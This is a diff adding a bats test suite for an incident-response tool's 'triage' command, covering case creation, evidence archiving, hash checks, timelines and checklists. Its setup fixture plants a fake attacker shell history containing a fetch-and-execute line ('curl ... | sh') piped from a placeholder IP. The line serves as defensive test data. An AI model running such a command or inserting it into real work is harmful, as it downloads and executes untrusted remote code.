@@ -1,0 +1,98 @@
+#!/usr/bin/env bats
+# irt triage: case, note, collection, verification, timeline, checklist.
+
+load helper
+bats_require_minimum_version 1.5.0
+
+setup() {
+	setup_common
+	# a small host under $TMP/root
+	mkdir -p root/etc root/var/log root/root root/tmp
+	echo "root:x:0:0:root:/root:/bin/bash" >root/etc/passwd
+	printf 'Nov 27 21:14:39 web01 sshd[812]: Accepted publickey for root from 203.0.113.7 port 50022 ssh2\n' >root/var/log/auth.log
+	touch -d '2026-11-27 21:14:39' root/var/log/auth.log
+	printf 'id\ncurl http://198.51.100.23/x | sh\n' >root/root/.bash_history
+}
+teardown() { teardown_common; }
+
+@test "triage without a case creates one and does every step" {
+	run irt triage --root "$TMP/root" --no-live
+	echo "$output"
+	[ "$status" -eq 0 ]
+	host=$(hostname | tr -c 'A-Za-z0-9._\n-' '-')
+	day=$(date -u +%Y%m%d)
+	c="$TMP/case-$host-$day"
+	[ -d "$c/.git" ]
+	grep -qx "id = TRIAGE-$host-$day" "$c/case.conf"
+	assert_contains "$output" "triage of $host"
+	assert_contains "$output" "verified   every hash matches"
+	assert_contains "$output" "busiest hours (UTC)"
+	assert_contains "$output" "isolate-linux-host-$host"
+	assert_contains "$output" "next steps:"
+	# the archive and its sidecar, the timeline beside them
+	archive=$(ls "$c"/evidence/*.tar.gz)
+	(cd "$c/evidence" && sha256sum -c "$(basename "$archive").sha256")
+	tl="${archive%.tar.gz}.timeline.jsonl"
+	grep -q '"path":"/var/log/auth.log"' "$tl"
+	grep -q 'Accepted publickey' "$tl"
+	# the record of it all, one commit per action
+	run git -C "$c" log --format=%B
+	assert_contains "$output" "Irt-Action: note-add"
+	assert_contains "$output" "Irt-Action: evidence-collect"
+	assert_contains "$output" "Irt-Action: checklist-start"
+	run irt -C "$c" note list --tag triage
+	[ "${#lines[@]}" -eq 1 ]
+	run irt -C "$c" case verify
+	[ "$status" -eq 0 ]
+	run irt -C "$c" checklist status --json
+	assert_contains "$output" "isolate-linux-host-$host"
+	# nothing was isolated
+	! nft list table inet irt_isolate 2>/dev/null
+}
+
+@test "triage inside a case uses it, and a second triage goes on in it" {
+	make_case
+	run --separate-stderr irt triage --root "$TMP/root" --no-live --json
+	[ "$status" -eq 0 ]
+	echo "$output" | python3 -c '
+import json, sys
+d = json.load(sys.stdin)
+assert d["case"] == "INC-TEST" and d["case_created"] is False, d
+assert d["verified"] is True and d["events"] > 0, d
+assert len(d["sha256"]) == 64 and d["counts"]["error"] == 0, d
+assert d["busiest_hours"][0]["hour"].endswith(":00Z"), d
+'
+	run irt triage --root "$TMP/root" --no-live
+	[ "$status" -eq 0 ]
+	assert_contains "$output" "started earlier"
+	[ "$(ls case/evidence/*.tar.gz | wc -l)" -eq 2 ]
+	[ "$(ls case/checklists | wc -l)" -eq 1 ]
+	run irt case verify
+	[ "$status" -eq 0 ]
+}
+
+@test "triage works as a normal user with what it can read" {
+	[ "$(id -u)" -eq 0 ] || skip "needs root to drop privileges"
+	chmod 600 root/root/.bash_history
+	chmod -R a+rwX "$TMP"
+	chmod 600 root/root/.bash_history
+	run --separate-stderr setpriv --reuid=nobody --regid=nogroup \
+	    --clear-groups env HOME="$TMP/home" "$IRT" triage \
+	    --root "$TMP/root" --no-live --json
+	echo "$output $stderr"
+	[ "$status" -eq 0 ]
+	echo "$output" | python3 -c '
+import json, sys
+d = json.load(sys.stdin)
+assert d["counts"]["error"] >= 1 and d["verified"] is True, d
+'
+}
+
+@test "triage rejects bad usage" {
+	run irt triage --timeout 0
+	[ "$status" -eq 2 ]
+	run irt triage --profile nosuchprofile
+	[ "$status" -eq 1 ]
+	run irt triage extra
+	[ "$status" -eq 2 ]
+}
